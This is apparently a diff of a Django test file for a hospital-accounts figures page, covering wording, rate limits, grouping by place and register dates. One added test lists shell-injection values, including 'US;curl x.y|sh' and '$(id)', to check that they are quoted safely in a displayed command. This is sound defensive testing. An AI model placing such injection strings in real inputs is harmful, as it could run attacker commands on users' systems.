@@ -11,15 +11,18 @@ from html import unescape
 from io import StringIO
 from pathlib import Path
 from typing import Any
+from urllib.parse import urlencode
 
 import pytest
 import time_machine
 from django.test import Client
+from lxml.html import fromstring
 
 from rounds.directory.actions.evidence import release
 from rounds.directory.models import SubList
 from rounds.directory.tests.factories import put_in_list
 from rounds.figures import recompute_figures
+from rounds.figures.limits import PAGES
 from rounds.figures.tests.cases import BEGIN, edition, hospital, in_register
 from rounds.organizations import search, versions
 from rounds.organizations.models import Organization
@@ -127,13 +130,14 @@ def test_every_figure_on_the_pages_leads_to_its_rows(client: Client) -> None:
 def test_the_page_says_what_is_counted_what_was_left_out_and_how_much_is_proven(client: Client) -> None:
     html = page(client, "/figures/")
     text = text_of(html)
-    assert "2 of 4 hospitals (50%) have an account of their own." in text
+    assert "The List has accounts for 2 of 4 hospitals (50%)." in text
+    assert "A hospital that is not in the List may well have accounts: this is a floor." in text
     assert (
         "1 more is covered only through an organization that it is part of; it is not in that number." in text
     )
-    assert "1 of the 2 accounts (50%) are proven to be official; the others are not." in text
-    assert "Lines of the register 6" in text
-    assert "Left out: lines that could not be read −1" in text
+    assert "1 of the 2 accounts (50%) is proven to be official; the others are not." in text
+    assert "Rows of the register 6" in text
+    assert "Left out: rows that could not be read −1" in text
     assert "Left out: closed since, or merged into another −1" in text
     assert "Counted 4" in text
     assert "python3 recompute_figures.py list.jsonl --register cms-2026-06" in text
@@ -226,16 +230,12 @@ def published(client: Client, question: str) -> dict[tuple[str, str, str], tuple
 
 
 def same(one: dict, other: dict) -> None:
-    """Figure for figure; a number may be written 1 or 1.0, and a line of noughts may be left out."""
+    """Figure for figure, as it is written; a line of noughts may be left out."""
 
-    def numbers(told: dict) -> dict:
-        return {
-            key: tuple(float(number or 0) for number in pair)
-            for key, pair in told.items()
-            if float(pair[0] or 0)
-        }
+    def told(figures: dict) -> dict:
+        return {key: pair for key, pair in figures.items() if float(pair[0] or 0)}
 
-    assert numbers(one) == numbers(other)
+    assert told(one) == told(other)
 
 
 @pytest.mark.usefixtures("register")
@@ -271,6 +271,18 @@ def test_the_command_on_the_page_is_the_one_that_counts_it(client: Client, tmp_p
 
 
 @pytest.mark.usefixtures("register")
+def test_nothing_in_an_address_is_a_command_of_its_own(client: Client) -> None:
+    hostile = ["US;curl x.y|sh", "$(id)", "`id`", "a\nid", "'; id; '", "--only"]
+    html = page(client, f"/figures/?{urlencode([('country', one) for one in hostile])}")
+    command = re.search(r"<code>(.+?)</code>", html, re.DOTALL)
+    assert command
+    told = "set -- " + unescape(command[1]) + '; printf "%s\\0" "$@"'
+    ran = subprocess.run(["/bin/sh", "-c", told], capture_output=True, text=True, check=True, env={})
+    given = [word for one in hostile for word in ("--country", one)]
+    assert ran.stdout.split("\0")[:-1] == ["python3", "recompute_figures.py", "list.jsonl", *given]
+
+
+@pytest.mark.usefixtures("register")
 def test_a_sub_list_is_counted_again_from_two_files(client: Client, tmp_path: Path) -> None:
     SubList.objects.create(slug="us", name="US", rule="country=US&type=hospital")
     whole = exported(client, "/list.jsonl?scope=register", tmp_path)
@@ -290,3 +302,44 @@ def test_who_asks_the_figures_of_very_many_days_waits() -> None:
         days = [BEGIN.date() + timedelta(days=number) for number in range(62)]
         codes = [Client().get(f"/figures/?as_of={day}", REMOTE_ADDR="192.0.2.78").status_code for day in days]
     assert codes == [200] * 60 + [429] * 2
+
+
+def test_who_asks_very_often_waits() -> None:
+    addresses = (
+        "/figures/", "/figures/places/", "/figures/over-time/", "/figures/coverage.csv", "/figures/over-time.csv",
+        f"{hospital('Alpha').get_absolute_url()}peers/",
+    )  # fmt: skip
+    client = Client(REMOTE_ADDR="192.0.2.79")
+    for number in range(PAGES):
+        assert client.get(f"/figures/coverage.csv?beds={number}").status_code == 200
+    assert [client.get(address).status_code for address in addresses] == [429] * len(addresses)
+
+
+def test_of_the_world_countries_come_first_and_regions_are_folded(client: Client) -> None:
+    for number, country in enumerate(("US", "DE", "FR")):
+        hospital(f"Hospital {number}", country=country, region=f"{country}-BE" if country == "DE" else "")
+    versions.bump()
+    tree = fromstring(page(client, "/figures/places/?register=all"))
+    assert tree.xpath("//section[@id='countries' or @id='places']/@id") == ["countries", "places"]
+    assert tree.xpath("//details[.//table]/ancestor::section/@id") == ["places"]
+    assert tree.xpath("//details[.//table]/summary/text()") == ["Show all 3 lines"]
+    tree = fromstring(page(client, "/figures/places/?register=all&country=DE"))
+    assert tree.xpath("//section[@id='countries' or @id='places']/@id") == ["places"]
+    assert tree.xpath("//details[.//table]") == []
+
+
+def test_before_a_register_was_read_nothing_is_counted_against_it(client: Client) -> None:
+    alpha = hospital("Alpha")
+    put_in_list(alpha, "https://x.com/alpha", at=BEGIN)
+    in_register(edition("cms-2026-06", date(2026, 1, 1), read_at=BEGIN + timedelta(days=10)), alpha)
+    versions.bump()
+    words = (
+        "On Jan. 10, 2026 we had not yet read this register."
+        " The first day we can count against it is Jan. 15, 2026."
+    )
+    for path in ("/figures/", "/figures/places/", "/figures/coverage.csv", "/api/v1/figures"):
+        for question in ("as_of=2026-01-10", "as_of=2026-01-10&register=cms"):
+            then = client.get(f"{path}?{question}")
+            assert then.status_code in (404, 422), path
+            assert words in then.content.decode(), path
+        assert client.get(f"{path}?register=cms&as_of=2026-01-15").status_code == 200
